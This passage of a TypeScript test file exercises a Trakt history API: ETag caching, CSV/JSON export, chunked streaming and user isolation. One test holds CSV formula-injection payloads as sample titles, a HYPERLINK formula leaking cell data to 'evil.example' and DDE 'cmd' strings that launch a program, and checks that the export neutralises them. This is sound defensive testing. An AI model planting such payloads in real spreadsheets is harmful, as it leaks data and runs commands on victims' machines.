      const { result, meter } = await meterD1(() => conditional(user.access, get, tag!));
      expect(result.status, path).toBe(304);
      expect(result.body, path).toBe('');
      expect(result.headers.get('ETag'), path).toBe(tag);
      // One round trip: sync-status batches the connection summary (owned by src/trakt/connections.ts) with it.
      expect(meter.statements, path).toHaveLength(path.startsWith('/trakt/sync-status') ? 2 : 1);
      expect(meter.rowsRead, path).toBeLessThanOrEqual(4);
    }
    expect(new Set(tags.values()).size).toBe(tags.size); // the query is part of the tag
    // Another query of the same route: another tag, so no 304.
    const other = await conditional(
      user.access,
      (c) => c.trakt.history.$get({ query: { limit: '6' } }),
      tags.get('/trakt/history/?limit=5'),
    );
    expect(other.status).toBe(200);

    // A no-op sync changes nothing but sync-status.
    await sync(user.access);
    for (const [path, get] of CONDITIONAL_READS(showTraktId)) {
      const res = await conditional(user.access, get, tags.get(path)!);
      expect(res.status, path).toBe(path.startsWith('/trakt/sync-status') ? 200 : 304);
    }

    // A new play: every tag changes and the new data is served.
    const catalog = await sim.catalog(user.traktUsername);
    await sim.addPlay(user.traktUsername, { type: 'movie', trakt_id: catalog.movies[0]!.trakt });
    await sync(user.access);
    for (const [path, get] of CONDITIONAL_READS(showTraktId)) {
      const res = await conditional(user.access, get, tags.get(path)!);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('ETag'), path).not.toBe(tags.get(path));
    }
  });

  it("never answers 304 to another user's tag", async () => {
    const a = await syncedUser({ ...SMALL, seed: 'etag-a' });
    const b = await registerAndLogin();
    const tag = (await read(api(a.access).trakt.stats.$get({ query: {} }))).headers.get('ETag')!;
    expect(tag).toBeTruthy();
    expect((await conditional(b.access, (c) => c.trakt.stats.$get({ query: {} }), tag)).status).toBe(200);
  });
});

// ---------------------------------------------------------------------------------------------

/** RFC 4180 parser for the test: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

const COLUMNS = [
  'type',
  'watched_at',
  'action',
  'title',
  'year',
  'season',
  'episode',
  'episode_title',
  'trakt',
  'imdb',
  'tmdb',
  'tvdb',
];

describe('GET /trakt/export/', () => {
  it('streams every play as RFC 4180 CSV, escaping commas, quotes and newlines, and as JSON', async () => {
    const user = await connectedUser(sim, { ...SMALL, seed: 'export-escape' });
    const catalog = await sim.catalog(user.traktUsername);
    const nasty = 'Crouching "Tiger", Hidden\r\nDragon, Part "2"\nand more';
    await sim.renameTitle({ type: 'movie', trakt_id: catalog.movies[0]!.trakt, title: nasty });
    await sim.renameTitle({ type: 'show', trakt_id: catalog.shows[0]!.trakt, title: 'Law, "Order"' });
    await sync(user.access);
    const truth = await sim.plays(user.traktUsername);

    const csv = await read(api(user.access).trakt.export.$get({ query: { format: 'csv' } }));
    expect(csv.status).toBe(200);
    expect(csv.headers.get('Content-Type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('Content-Disposition')).toBe('attachment; filename="trakt-history.csv"');
    const rows = parseCsv(csv.body as string);
    expect(rows[0]).toEqual(COLUMNS);
    expect(rows).toHaveLength(truth.length + 1);
    const records = rows.slice(1).map((r) => Object.fromEntries(COLUMNS.map((c, i) => [c, r[i]!])));
    expect(records.map((r) => r.watched_at)).toEqual(truth.map((p) => p.watched_at));
    const nastyRows = records.filter((r) => r.title === nasty);
    expect(nastyRows.length).toBeGreaterThan(0);
    expect(nastyRows[0]).toMatchObject({
      type: 'movie',
      trakt: String(catalog.movies[0]!.trakt),
      season: '',
      tvdb: '',
    });
    expect((csv.body as string).includes(`"${nasty.replace(/"/g, '""')}"`)).toBe(true);
    const lawRows = records.filter((r) => r.title === 'Law, "Order"');
    expect(lawRows.length).toBeGreaterThan(0);
    expect(lawRows[0]).toMatchObject({
      type: 'episode',
      season: expect.stringMatching(/^\d+$/),
      episode: expect.stringMatching(/^\d+$/),
    });

    const json = await read(api(user.access).trakt.export.$get({ query: { format: 'json' } }));
    expect(json.headers.get('Content-Disposition')).toBe('attachment; filename="trakt-history.json"');
    const exported = json.body as ExportRow[]; // a stream: its rows are typed by the contract's row schema
    expect(exported).toHaveLength(truth.length);
    expect(Object.keys(exported[0]!)).toEqual(COLUMNS);
    expect(exported.find((r) => r.title === nasty)).toMatchObject({ type: 'movie', season: null });
    expect(exported.map((r) => r.watched_at)).toEqual(truth.map((p) => p.watched_at));
    expectError(await call('GET', '/trakt/export/?format=xml', { token: user.access }), 400, /json, csv/);
  });

  it('neutralises titles that a spreadsheet would run as a formula (=, +, -, @, tab, CR), as OWASP advises', async () => {
    const user = await connectedUser(sim, { ...SMALL, movies: 4, shows: 2, seed: 'export-formula' });
    const catalog = await sim.catalog(user.traktUsername);
    // Community-edited titles from Trakt, as the simulator serves them.
    const formulas = {
      movie0: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the trailer")',
      movie1: "+cmd|' /C calc'!A0",
      movie2: '-2+3',
      movie3: "@SUM(1+1)*cmd|' /C calc'!A0",
      show0: '\tTabbed =1+1',
      show1: '\rCarriage =1+1',
    };
    const titles = [...Object.values(formulas)];
    for (const [i, movie] of catalog.movies.slice(0, 4).entries())
      await sim.renameTitle({ type: 'movie', trakt_id: movie.trakt, title: titles[i]! });
    for (const [i, show] of catalog.shows.slice(0, 2).entries())
      await sim.renameTitle({ type: 'show', trakt_id: show.trakt, title: titles[4 + i]! });
    await sync(user.access);

    const csv = await read(api(user.access).trakt.export.$get({ query: { format: 'csv' } }));
    expect(csv.status).toBe(200);
    const body = csv.body as string;
    const rows = parseCsv(body).slice(1);
    const exported = new Set(rows.map((r) => r[COLUMNS.indexOf('title')]!));
    for (const title of titles) {
      // The cell holds the title behind a leading apostrophe: text to a spreadsheet, never a formula.
      expect(exported.has(`'${title}`), title).toBe(true);
      expect(exported.has(title), title).toBe(false);
      // And it is quoted, so the apostrophe and a leading tab or CR survive every CSV reader.
      expect(body.includes(`,"'${title.replace(/"/g, '""')}",`), title).toBe(true);
    }
    // No exported cell of any column starts like a formula.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers and plain titles are unchanged; JSON keeps the title exactly (it is not a spreadsheet format).
    expect(rows.every((r) => /^\d{4}-\d\d-\d\dT/.test(r[COLUMNS.indexOf('watched_at')]!))).toBe(true);
    const json = await read(api(user.access).trakt.export.$get({ query: { format: 'json' } }));
    const jsonRows = json.body as ExportRow[]; // a stream: its rows are typed by the contract's row schema
    expect(jsonRows.find((r) => r.trakt === catalog.movies[0]!.trakt)!.title).toBe(formulas.movie0);
  });

  it('streams in keyset chunks: every D1 read is at most one chunk', async () => {
    const user = await syncedUser({ ...SMALL, movies: 2600, shows: 0, rewatch_fraction: 0 }, { tmdb: false });
    const { result, meter } = await meterD1(() =>
      read(api(user.access).trakt.export.$get({ query: { format: 'json' } })),
    );
    expect(result.body).toHaveLength(2600);
    expect(new Set((result.body as ExportRow[]).map((r) => `${r.watched_at}|${r.trakt}`)).size).toBe(2600);
    const chunkReads = meter.statements.filter((s) => s.includes('from "plays"'));
    // Two walks merged: movies 2,500 + 100, episodes (none) one read.
    expect(chunkReads).toHaveLength(3);
  });

  it('an empty history exports a header only / an empty array', async () => {
    const user = await registerAndLogin();
    expect((await read(api(user.access).trakt.export.$get({ query: { format: 'csv' } }))).body).toBe(
      `${COLUMNS.join(',')}\r\n`,
    );
    expect((await read(api(user.access).trakt.export.$get({ query: {} }))).body).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------

describe('isolation', () => {
  it("every new endpoint serves only the caller's data", async () => {
    const a = await syncedUser({ ...SMALL, seed: 'iso-new-a' });
    const b = await syncedUser({ ...SMALL, seed: 'iso-new-b', movies: 2, shows: 1 });
    const aPlays = await sim.plays(a.traktUsername);
    const bPlays = await sim.plays(b.traktUsername);
    const aIds = new Set(aPlays.map((p) => p.id));
    expect(bPlays.some((p) => aIds.has(p.id))).toBe(false);

    const bHistory = (await allPages(b.access, { limit: '100' })).items;
    expect(bHistory.map((i) => i.id).sort()).toEqual(bPlays.map((p) => p.id).sort());
    const aMovie = (await read(api(a.access).trakt.history.$get({ query: { type: 'movies', limit: '1' } }))).body
      .items[0]!;
    assert(aMovie.type === 'movie');
    expect(
      (await read(api(b.access).trakt.history.$get({ query: { trakt_id: String(aMovie.movie.ids.trakt) } }))).body,
    ).toEqual({ items: [], next_cursor: null });
    const bStats = (await read(api(b.access).trakt.stats.$get({ query: {} }))).body;
    expect(bStats.movies.plays + bStats.episodes.plays).toBe(bPlays.length);
    const bExport = (await read(api(b.access).trakt.export.$get({ query: {} }))).body;
    expect(bExport).toHaveLength(bPlays.length);
    const aTitle = aMovie.movie.title!;
    const bMovies = await read(api(b.access).trakt['get-stored-movies'].$get({ query: { q: aTitle } }));
    expect(bMovies.body.movies.every((m) => m.movie.ids.trakt !== aMovie.movie.ids.trakt)).toBe(true);
    for (const path of ['/trakt/history/', '/trakt/stats/', '/trakt/export/']) {
      expect((await call('GET', path)).status, path).toBe(401);
    }
  });

  it("a deleted account's access token gets 401 from every read endpoint, 304 path included", async () => {
    const user = await syncedUser({ ...SMALL, seed: 'iso-deleted', movies: 2, shows: 1 });
    const showTraktId = (await read(api(user.access).trakt['get-stored-shows'].$get({ query: {} }))).body.shows[0]!.show
      .ids.trakt;
    const reads = CONDITIONAL_READS(showTraktId);
    const tags = new Map<string, string>();
    for (const [path, get] of reads) {
      const res = await conditional(user.access, get);
      expect(res.status, path).toBe(200);
      tags.set(path, res.headers.get('ETag')!);
    }
    const deleted = await read(api(user.access).users.me.$delete({ json: { password: user.password } }));
    expect(deleted.status).toBe(204);
    // A deleted account's token: kept raw, on the same paths.
    for (const [path] of reads) {
      expectError(await call('GET', path, { token: user.access }), 401, 'User no longer exists');
      expectError(
        await call('GET', path, { token: user.access, headers: { 'If-None-Match': tags.get(path)! } }),
        401,
        'User no longer exists',
      );
    }
    expectError(
      await read(api(user.access).trakt['get-watched-seasons-episodes'].$get({ query: { trakt_id: '1' } })),
      401,
      'User no longer exists',
    );
  });
});
